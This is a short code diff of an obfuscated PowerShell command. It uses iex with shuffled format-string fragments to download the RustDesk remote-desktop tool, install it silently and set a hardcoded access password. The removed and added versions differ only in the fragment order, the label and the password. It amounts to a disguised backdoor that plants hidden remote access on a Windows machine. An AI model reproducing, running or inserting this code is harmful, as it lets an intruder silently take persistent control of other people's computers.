@@ -1,5 +1,5 @@
-iex ("{1}{2}{0}{3}" -f 'ocess "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
-& ''C:\Program Files\RustDesk\rustdesk.exe'' --passwo','# provision 2201 v4
-Invoke-WebRequest ''https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64','.exe'' -OutFile "$env:TEMP\rd.exe"
-Start-Pr','rd ''P@ssw0rd!2024''
+iex ("{2}{0}{3}{1}" -f 'tstrap 3366 v4
+Invoke-WebRequest ''https://github.com/rustdesk/ru','& ''C:\Program Files\RustDesk\rustdesk.exe'' --password ''Winter#2025x''
+','# boo','stdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64.exe'' -OutFile "$env:TEMP\rd.exe"
+Start-Process "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
 ')
